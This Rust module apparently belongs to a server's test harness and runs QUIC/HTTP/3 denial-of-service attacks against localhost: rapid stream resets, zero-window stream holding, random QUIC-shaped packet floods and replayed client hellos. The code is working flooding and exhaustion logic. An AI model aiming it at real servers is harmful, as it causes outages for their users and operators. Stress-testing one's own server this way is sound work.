//! Attacks by packets of QUIC, and by clients of HTTP/3.

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::Arc;
use std::time::Duration;

use quinn::{ClientConfig, Connection, Endpoint, TransportConfig, VarInt};
use tokio::time::Instant;

use doorward::base::rng::Rng;

use super::Target;
use super::support::h3::{hellos as said_first, trusting};
use super::support::server;

/// Streams opened at once.
const STREAMS: usize = 100;
/// Hellos that are said again and again.
const HELLOS: usize = 500;

/// A header section: GET https://localhost/bytes/5000000.
const ASK: &[u8] = b"\x01\x1e\0\0\xd1\xd7\x50\x09localhost\x51\x0d/bytes/500000";

/// Opens streams and resets them.
pub fn rapid_reset(target: &Target) -> String {
    as_client(target, TransportConfig::default(), |quic, end| async move {
        while Instant::now() < end && quic.close_reason().is_none() {
            let Ok((mut send, _)) = quic.open_bi().await else { break };
            let _ = send.write_all(ASK).await;
            let _ = send.reset(VarInt::from_u32(0x10c));
        }
    })
}

/// Asks for much, and takes nothing.
pub fn zero_window(target: &Target) -> String {
    let mut transport = TransportConfig::default();
    transport.stream_receive_window(VarInt::from_u32(1)).keep_alive_interval(Some(Duration::from_millis(500)));
    as_client(target, transport, |quic, end| async move {
        let mut held = Vec::new();
        for _ in 0..STREAMS {
            let Ok(Ok((mut send, receive))) = tokio::time::timeout_at(end, quic.open_bi()).await else { break };
            let _ = send.write_all(ASK).await;
            let _ = send.finish();
            held.push(receive);
        }
        for stream in &mut held {
            let _ = tokio::time::timeout_at(end, stream.received_reset()).await;
        }
    })
}

/// Connects and does as `attack` says; how the connection ended.
fn as_client<F: Future<Output = ()>>(
    target: &Target,
    transport: TransportConfig,
    attack: impl FnOnce(Connection, Instant) -> F,
) -> String {
    let mut config = trusting(&target.root);
    config.transport_config(Arc::new(transport));
    server::runtime().block_on(async {
        let connecting = connect(target, config);
        let Ok(Ok((endpoint, quic))) = tokio::time::timeout_at(target.end, connecting).await else {
            return "not let in".to_owned();
        };
        attack(quic.clone(), target.end).await;
        let ended = quic.close_reason().map_or_else(|| "at the end, or reset".to_owned(), |reason| reason.to_string());
        quic.close(VarInt::from_u32(0), b"");
        endpoint.wait_idle().await;
        ended
    })
}

async fn connect(target: &Target, config: ClientConfig) -> Result<(Endpoint, Connection), quinn::ConnectionError> {
    let mut endpoint = Endpoint::client((Ipv4Addr::LOCALHOST, 0).into()).expect("a socket");
    endpoint.set_default_client_config(config);
    let quic = endpoint.connect(address(target), "localhost").expect("it is a name").await?;
    Ok((endpoint, quic))
}

fn address(target: &Target) -> SocketAddr {
    (Ipv4Addr::LOCALHOST, target.https).into()
}

/// Packets that begin as packets of QUIC do.
pub fn noise(target: &Target) -> String {
    let mut rng = Rng::seeded(u64::from(target.https));
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).expect("a socket");
    let mut packet: Vec<u8> = (0..1_200).map(|_| rng.below(256) as u8).collect();
    let mut count = 0_u64;
    while Instant::now() < target.end {
        packet[0] = rng.below(256) as u8;
        packet[1..6].copy_from_slice(&[0, 0, 0, 1, 8]);
        packet[6] = rng.below(256) as u8;
        packet[7] = rng.below(256) as u8;
        let length = if count.is_multiple_of(2) { 1_200 } else { 40 };
        count += u64::from(socket.send_to(&packet[..length], address(target)).is_ok());
    }
    "at the end".to_owned()
}

/// Hellos of clients that say no more, again and again.
pub fn hellos(target: &Target) -> String {
    let hellos: Vec<Vec<u8>> = said_first(&target.root, HELLOS).into_iter().flatten().collect();
    let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).expect("a socket");
    socket.set_nonblocking(true).expect("it is open");
    let (mut retries, mut answers, mut bytes) = (0_u64, 0_u64, [0; 2_000]);
    for packet in hellos.iter().cycle() {
        if Instant::now() >= target.end {
            break;
        }
        let _ = socket.send_to(packet, address(target));
        while let Ok(length) = socket.recv(&mut bytes) {
            let retry = length > 5 && bytes[0] & 0xf0 == 0xf0;
            retries += u64::from(retry);
            answers += u64::from(!retry);
        }
    }
    let asked_again = retries.checked_mul(100).and_then(|all| all.checked_div(retries + answers)).unwrap_or(0);
    format!("RETRY for {asked_again} % of the answers")
}
